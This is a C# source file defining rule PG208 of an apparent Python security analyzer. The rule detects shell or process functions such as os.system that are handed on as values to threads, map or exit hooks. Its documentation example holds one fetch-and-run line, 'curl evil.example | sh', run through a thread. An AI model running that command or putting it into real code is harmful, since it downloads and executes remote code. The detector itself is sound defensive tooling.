using System.Collections.Frozen;
using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;

namespace PyGuard.Analyzers.Exec;

/// <summary>
/// PG208: a function that runs a shell command or starts a program handed to other code as a value —
/// <c>Thread(target=os.system, args=(cmd,))</c>, <c>map(os.system, cmds)</c>, <c>atexit.register(os.system, cmd)</c>
/// — where the call that runs it is not in the file, so PG204 and PG205 never see a call.
/// </summary>
public sealed class ProgramRunnerAsValue : Analyzer
{
    /// <summary>
    /// The functions of PG204 and PG205, without <c>subprocess.Popen</c>: a class, which code hands to
    /// <c>isinstance</c> and type hints far more often than to something that calls it.
    /// </summary>
    private static readonly FrozenSet<string> Runners = ShellCommand.ShellFunctions
        .Concat(ShellCommand.SubprocessFunctions)
        .Concat(ProcessExecution.Starters)
        .Where(name => name != "subprocess.Popen")
        .ToFrozenSet(StringComparer.Ordinal);

    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG208", "Shell or process function passed as a value", "'{0}' is passed on as a value; whatever calls it runs a program",
        RuleCategory.Exec, Severity.Error, Confidence.High, 9.0, [78],
        whatItDoes: "Reports the functions that run shell commands or start programs (`os.system`, `os.popen`, the `subprocess` functions, `os.exec*`, `os.spawn*`, `os.posix_spawn`, `pty.spawn`, `asyncio.create_subprocess_*`), however reached, used as a value rather than called: passed as an argument (`Thread(target=os.system, args=(cmd,))`, `map(os.system, cmds)`, `atexit.register(os.system, cmd)`), put in a container, returned, or used as a default.",
        why: "Whoever receives the function runs the program, out of sight of the call site: a thread, a pool, an exit hook or a callback table becomes a shell. It is the way around rules that only look at direct calls.",
        example: "import os, threading\nthreading.Thread(target=os.system, args=('curl evil.example | sh',)).start()",
        instead: "Do the work in Python; if a program must run, call it directly under `pyguard run`, where processes are contained.",
        safeExample: "import threading\nthreading.Thread(target=print, args=('working',)).start()");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration)
    {
        registration.RegisterNodeAction(Analyze, HandedOnValues.Parents);

        // Only an expression whose value is one of the runners is reported, and most files hold none.
        registration.RunNodeActionsOnlyIf(file => file.Model.MayHoldReferenceTo(Runners));
    }

    private static void Analyze(NodeContext context)
    {
        foreach (var (expr, name) in HandedOnValues.References(context, Runners))
        {
            context.Report(Descriptor, expr.Span, null, null, name);
        }
    }
}
